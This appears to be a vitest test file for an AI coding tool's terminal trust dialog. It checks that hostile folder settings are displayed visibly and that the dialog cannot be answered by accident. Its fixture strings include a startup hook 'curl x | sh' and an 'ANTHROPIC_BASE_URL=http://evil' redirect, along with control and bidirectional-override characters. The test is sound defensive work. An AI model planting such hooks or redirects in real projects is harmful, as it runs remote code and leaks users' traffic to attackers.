import { describe, expect, it } from "vitest"
import { shownBy, TuiWorld } from "../../support/tui-world.ts"
import { HOSTILE, questionAbout } from "../trust-question.ts"

/** The dialog about the folder: before any session, and answered only by a deliberate key. */
const asked = (options: ConstructorParameters<typeof TuiWorld>[0] = {}): TuiWorld => {
  const world = new TuiWorld({ size: { columns: 100, rows: 30 }, ...options })
  world.tell({ _tag: "TrustAsked", question: questionAbout(HOSTILE) })
  return world
}

const answers = (world: TuiWorld): ReadonlyArray<string> => world.done("AnswerTrust").map(({ answer }) => answer)

describe("the trust dialog", () => {
  it("shows the folder and every entry, with what is invisible made visible", async () => {
    const screen = (await shownBy(asked().screen())).text().join("\n")
    for (const part of [
      "Do you trust this folder?",
      "/w/evil^G",
      "SessionStart (startup): curl x | sh",
      "^[[31m<U+202E>",
      "ANTHROPIC_BASE_URL=http://evil",
      "Bash(ls *)"
    ]) {
      expect(screen).toContain(part)
    }
    expect(screen).toContain("▸ 3 Exit")
  })

  it.each([
    ["1", "trust"],
    ["2", "restricted"],
    ["3", "exit"],
    ["<CR>", "exit"],
    ["<Esc>", "exit"],
    ["j<CR>", "trust"],
    ["k<CR>", "restricted"]
  ])("%s answers %s", (keys, answer) => {
    const world = asked()
    world.wait(200)
    world.keys(keys)
    expect(answers(world)).toEqual([answer])
    expect(world.model.overlays.shown).toBeUndefined()
  })

  it("is not answered in its first moment, by a held key, a paste or the wheel", () => {
    const world = asked()
    world.keys("1<CR>", 10)
    world.now += 300
    world.tell({ _tag: "Input", event: { _tag: "Key", stroke: "1", kind: "repeat", text: "1" } })
    world.paste("1\n")
    world.mouse("wheel", "wheelDown", { column: 40, row: 12 })
    world.keys("x")
    expect(answers(world)).toEqual([])
    world.keys("1")
    expect(answers(world)).toEqual(["trust"])
  })

  it("takes an Escape of its first moment as soon as it may be answered", () => {
    const world = asked()
    world.keys("<Esc>", 10)
    expect(answers(world)).toEqual([])
    world.wait(200)
    expect(answers(world)).toEqual(["exit"])
  })

  it("cannot be accepted where it cannot be seen, but left", () => {
    const world = asked({ size: { columns: 40, rows: 12 } })
    world.resize(40, 8)
    world.wait(200)
    world.keys("1")
    expect(answers(world)).toEqual([])
    world.keys("<C-c>")
    expect(world.done("Quit")).toHaveLength(1)
  })

  it("leaves what was typed before it for the prompt", () => {
    const world = new TuiWorld()
    world.keys("hello")
    world.tell({ _tag: "TrustAsked", question: questionAbout(HOSTILE) })
    world.wait(200)
    world.keys("2")
    world.open()
    expect(answers(world)).toEqual(["restricted"])
    expect(JSON.stringify(world.session().prompt.editor)).toContain("hello")
  })

  it("scrolls a long list and keeps the choices", async () => {
    const world = new TuiWorld()
    const allow = Array.from({ length: 60 }, (_, index) => `Bash(step${index} *)`)
    world.tell({ _tag: "TrustAsked", question: questionAbout({ permissions: { allow } }) })
    world.wait(200)
    expect((await shownBy(world.screen())).text().join("\n")).toContain("more (d)")
    for (let page = 0; page < 6; page++) world.keys("d")
    const screen = (await shownBy(world.screen())).text().join("\n")
    expect(screen).toContain("step59")
    expect(screen).toContain("▸ 3 Exit")
  })

  it("waits for still hands when a session is open, and nobody is thrown out by Escape", () => {
    const world = new TuiWorld()
    world.open()
    world.keys("typing")
    world.tell({ _tag: "TrustAsked", question: { ...questionAbout(HOSTILE, true), isLate: true } })
    expect(world.model.overlays.shown).toBeUndefined()
    world.wait(800)
    world.wait(200)
    world.keys("<Esc>")
    expect(answers(world)).toEqual(["restricted"])
    expect(world.done("Quit")).toEqual([])
  })

  it("takes nobody's place while something else is open", () => {
    const world = new TuiWorld()
    world.open()
    world.tell({ _tag: "Listed", title: "Registers", lines: ["a"] })
    world.tell({ _tag: "TrustAsked", question: { ...questionAbout(HOSTILE, true), isLate: true } })
    expect(world.model.overlays.opened?._tag).toBe("Listing")
    expect(world.model.notices.current?.notice.text).toContain("new entries")
  })

  it("covers the screen in inline mode as well", () => {
    const world = asked({ options: { interface: "inline" } })
    world.wait(200)
    world.keys("1")
    expect(answers(world)).toEqual(["trust"])
  })
})
